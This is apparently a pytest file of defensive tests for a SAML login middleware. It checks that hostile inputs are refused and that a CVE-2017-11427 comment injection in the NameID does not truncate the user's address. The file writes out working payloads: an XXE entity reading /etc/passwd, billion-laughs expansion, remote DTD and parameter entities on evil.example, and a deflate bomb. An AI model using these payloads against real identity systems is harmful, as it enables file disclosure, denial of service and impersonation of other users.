"""Transport, encoding and XML-parser attacks on a freshly signed response, through both adapters.

DTDs and entities (XXE with ``SYSTEM "file:///etc/passwd"``, billion laughs, external DTD,
parameter entities), processing instructions, nesting depth, non-UTF-8 encodings (UTF-16, UTF-7,
Latin-1), junk or URL-safe base64, raw DEFLATE on the POST binding (68 KB that would inflate to
50 MiB under pysaml2), oversized bodies, empty or non-XML payloads, messages that are not a
``samlp:Response`` (LogoutResponse, a bare Assertion, SAML 1.1), duplicate IDs, the wrong method
or media type.

Positive controls for python-saml CVE-2017-11427 (comment inside the NameID): exclusive c14n
drops comments, so the IdP's signature still verifies, and the middleware must read the *whole*
text of the NameID, not the text before the comment.
"""

from __future__ import annotations

import zlib

import pytest
from lxml import etree

from .helpers import EMAIL, Flow, assertion_of, b64, name_id, q, serialize, sign

DOCTYPE = b"<!DOCTYPE samlp:Response>"
XXE = b'<!DOCTYPE samlp:Response [<!ENTITY who SYSTEM "file:///etc/passwd">]>'
INTERNAL = b'<!DOCTYPE samlp:Response [<!ENTITY who "ceo@contoso.com">]>'
LAUGHS = (
    b"<!DOCTYPE samlp:Response ["
    + b'<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
EXTERNAL_DTD = b'<!DOCTYPE samlp:Response SYSTEM "http://evil.example/saml.dtd">'
PARAMETER = b'<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'


def _use_entity(xml: bytes, entity: bytes) -> bytes:
    """Replace the NameID's text by a reference to ``entity`` (what an XXE reads in its place)."""
    return xml.replace(EMAIL.encode() + b"</NameID>", b"&" + entity + b";</NameID>", 1)


@pytest.mark.parametrize(
    ("prolog", "entity"),
    [
        pytest.param(DOCTYPE, None, id="DOCTYPE"),
        pytest.param(INTERNAL, b"who", id="internal-entity"),
        pytest.param(XXE, b"who", id="external-entity-file-etc-passwd"),
        pytest.param(LAUGHS, b"lol9", id="billion-laughs"),
        pytest.param(EXTERNAL_DTD, None, id="external-DTD"),
        pytest.param(PARAMETER, None, id="parameter-entity"),
    ],
)
def test_dtd_and_entities(flow: Flow, prolog: bytes, entity: bytes | None) -> None:
    xml = flow.xml if entity is None else _use_entity(flow.xml, entity)
    assert entity is None or b"&" + entity in xml
    flow.refused(flow.post(b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + xml), "dtd_forbidden")


def _pi_in_response(root: etree._Element) -> None:
    root.find(q("saml", "Issuer")).addnext(etree.ProcessingInstruction("evil", "x"))  # type: ignore[union-attr]


def _pi_in_name_id(root: etree._Element) -> None:
    name_id(root).append(etree.ProcessingInstruction("xml-stylesheet", 'href="http://evil.example/x.xsl"'))


@pytest.mark.parametrize(
    "where", ["before-the-root", "after-the-root", "in-the-Response", "in-the-signed-NameID"]
)
def test_processing_instruction(flow: Flow, where: str) -> None:
    pi = b'<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>'
    if where == "before-the-root":
        xml = b'<?xml version="1.0" encoding="UTF-8"?>' + pi + flow.xml
    elif where == "after-the-root":
        xml = flow.xml + pi
    else:
        root = flow.tree()
        (_pi_in_response if where == "in-the-Response" else _pi_in_name_id)(root)
        xml = serialize(root)
    assert b"<?xml-stylesheet" in xml or b"<?evil" in xml
    flow.refused(flow.post(xml), "processing_instruction")


def _nested(depth: int) -> etree._Element:
    extensions = etree.Element(q("samlp", "Extensions"))
    node = extensions
    for _ in range(depth):
        node = etree.SubElement(node, "{urn:example:evil}n")
    return extensions


@pytest.mark.parametrize(("depth", "reason"), [(40, "too_deep"), (300, "malformed_xml")])
def test_deep_nesting(flow: Flow, depth: int, reason: str) -> None:
    """Deeper than the middleware's cap (32); deeper than libxml2's own cap (256) is a syntax error."""
    root = flow.tree()
    root.find(q("saml", "Issuer")).addnext(_nested(depth))  # type: ignore[union-attr]
    flow.refused(flow.post(serialize(root)), reason)


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-7", "UTF-16"])
def test_encoding_other_than_utf8(flow: Flow, encoding: str) -> None:
    if encoding == "UTF-16":
        text = '<?xml version="1.0" encoding="UTF-16"?>' + flow.xml.decode("utf-8")
        xml = text.encode("utf-16")  # with a BOM
    else:
        xml = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + flow.xml
    flow.refused(flow.post(xml), "bad_encoding")


def test_invalid_utf8(flow: Flow) -> None:
    flow.refused(flow.post(flow.xml.replace(b"B.Simon", b"B.\xff\xfeSimon", 1)), "bad_encoding")


@pytest.mark.parametrize("junk", ["!", "*", "$", ".", "%00"])
def test_junk_characters_in_base64(flow: Flow, junk: str) -> None:
    value = flow.fields["SAMLResponse"]
    middle = len(value) // 2
    flow.refused(flow.post(value[:middle] + junk + value[middle:]), "bad_encoding")


def test_url_safe_base64_alphabet(flow: Flow) -> None:
    value = flow.fields["SAMLResponse"]
    assert "+" in value or "/" in value
    flow.refused(flow.post(value.replace("+", "-").replace("/", "_")), "bad_encoding")


def test_data_after_base64_padding(flow: Flow) -> None:
    """Two base64 strings glued together: a lenient decoder stops at the first padding."""
    evil = b64(b"<samlp:Response/>")
    value = b64(flow.xml + b"  ")  # forces padding
    assert value.endswith("=")
    flow.refused(flow.post(value + evil), "bad_encoding")


def test_raw_deflate_on_the_post_binding(flow: Flow) -> None:
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    flow.refused(flow.post(deflater.compress(flow.xml) + deflater.flush()), "bad_encoding")


def test_deflate_bomb_on_the_post_binding(flow: Flow) -> None:
    """68 KB of DEFLATE that inflates to 50 MiB: it must never be inflated."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = deflater.compress(b"<a>" + b" " * (50 * 2**20) + b"</a>") + deflater.flush()
    assert len(bomb) < 100_000
    flow.refused(flow.post(bomb), "bad_encoding")


def test_body_over_256_kib(flow: Flow) -> None:
    """The real signed response, padded past the cap with a comment after the root."""
    xml = flow.xml + b"<!--" + b"x" * (256 * 1024) + b"-->"
    flow.refused(flow.post(xml), "too_large")


def test_empty_saml_response(flow: Flow) -> None:
    flow.refused(flow.post(""), "missing_response")


def test_two_saml_response_fields(flow: Flow) -> None:
    """One signed for the victim, one attacker-made: no guessing which one counts."""
    data = {**flow.fields, "SAMLResponse": [flow.fields["SAMLResponse"], b64(b"<samlp:Response/>")]}
    flow.refused(flow.request("POST", data=data), "missing_response")


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        pytest.param(b"hello, this is not XML", "bad_encoding", id="text"),
        pytest.param(b'{"email": "ceo@contoso.com"}', "bad_encoding", id="JSON"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "bad_encoding", id="binary"),
        pytest.param(b"<samlp:Response", "malformed_xml", id="truncated-XML"),
        pytest.param(b"<a>\x00</a>", "malformed_xml", id="NUL-in-XML"),
    ],
)
def test_not_xml(flow: Flow, payload: bytes, reason: str) -> None:
    flow.refused(flow.post(payload), reason)


def _logout_response(flow: Flow) -> bytes:
    root = flow.tree()
    root.tag = q("samlp", "LogoutResponse")
    root.remove(assertion_of(root))
    return serialize(root)


def _bare_assertion(flow: Flow) -> bytes:
    return serialize(assertion_of(flow.tree()))


def _saml11_response(flow: Flow) -> bytes:
    root = flow.tree()
    root.tag = "{urn:oasis:names:tc:SAML:1.0:protocol}Response"
    return serialize(root)


@pytest.mark.parametrize("build", [_logout_response, _bare_assertion, _saml11_response])
def test_not_a_response(flow: Flow, build) -> None:
    """A LogoutResponse, the (validly signed) Assertion alone, a SAML 1.1 Response."""
    flow.refused(flow.post(build(flow)), "not_a_response")


def test_response_id_equal_to_the_assertion_id(flow: Flow) -> None:
    """The Assertion's signature references #ID: two elements with that ID make the reference ambiguous."""
    root = flow.tree()
    root.set("ID", assertion_of(root).get("ID", ""))
    flow.refused(flow.post(root), "duplicate_id")


def test_assertion_id_equal_to_the_signed_response_id(flow: Flow) -> None:
    """Response signed (re-signed after the change): the Assertion carries the Response's ID."""

    def mutate(root: etree._Element) -> None:
        assertion_of(root).set("ID", root.get("ID", ""))

    flow.refused(flow.post(flow.issue("response", mutate=mutate)), "duplicate_id")


def test_duplicate_id_on_an_unsigned_extension(flow: Flow) -> None:
    root = flow.tree()
    extensions = etree.Element(q("samlp", "Extensions"))
    etree.SubElement(extensions, "{urn:example:evil}x", ID=assertion_of(root).get("ID", ""))
    root.find(q("saml", "Issuer")).addnext(extensions)  # type: ignore[union-attr]
    flow.refused(flow.post(root), "duplicate_id")


# -- transport -------------------------------------------------------------------------------------
def test_get_on_the_acs(flow: Flow) -> None:
    response = flow.request("GET", params={"SAMLResponse": flow.fields["SAMLResponse"]})
    flow.refused(response, "method_not_allowed")
    assert response.headers["allow"] == "POST"


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/json", b'{"SAMLResponse": "x"}'),
        ("text/xml", b"<samlp:Response/>"),
        (
            "multipart/form-data; boundary=x",
            b'--x\r\nContent-Disposition: form-data; name="SAMLResponse"\r\n\r\nx\r\n--x--',
        ),
    ],
)
def test_unsupported_media_type(flow: Flow, content_type: str, body: bytes) -> None:
    flow.refused(
        flow.request("POST", content=body, headers={"content-type": content_type}), "unsupported_media_type"
    )


# -- CVE-2017-11427: a comment inside the NameID (positive controls) -------------------------------
def _comment_in_name_id(root: etree._Element, after: str) -> None:
    node = name_id(root)
    text = node.text or ""
    assert text.startswith(after)
    node.text = after
    comment = etree.Comment(" evil ")
    comment.tail = text[len(after) :]
    node.append(comment)


def test_comment_in_name_id_keeps_the_signature_and_the_whole_email(flow: Flow) -> None:
    """Not re-signed: exclusive c14n drops comments, so the IdP's signature still verifies."""
    root = flow.tree()
    _comment_in_name_id(root, "b.simon")
    assert b"b.simon<!-- evil -->@contoso.com" in serialize(root)
    flow.accepted(flow.post(root), email=EMAIL)


def test_comment_in_name_id_resigned_reads_the_whole_email(flow: Flow) -> None:
    root = flow.tree()
    _comment_in_name_id(root, "b.simon@contoso")
    sign(root, "assertion", flow.idp.key_pem, flow.idp.cert_pem)
    flow.accepted(flow.post(root), email=EMAIL)


@pytest.mark.parametrize("mode", ["assertion", "response", "both"])
def test_cve_2017_11427_comment_does_not_truncate_to_another_user(flow: Flow, mode) -> None:
    """The IdP signs the attacker's own ``b.simon@contoso.com.evil.example``; the attacker inserts a
    comment so that a truncating SP reads ``b.simon@contoso.com``. The signature still verifies,
    and the user must be the whole address."""
    attacker = EMAIL + ".evil.example"

    def register(root: etree._Element) -> None:
        name_id(root).text = attacker

    root = flow.issue(mode, mutate=register)  # type: ignore[arg-type]
    _comment_in_name_id(root, EMAIL)
    assert serialize(root).count(b"<!-- evil -->") == 1
    flow.accepted(flow.post(root), email=attacker)
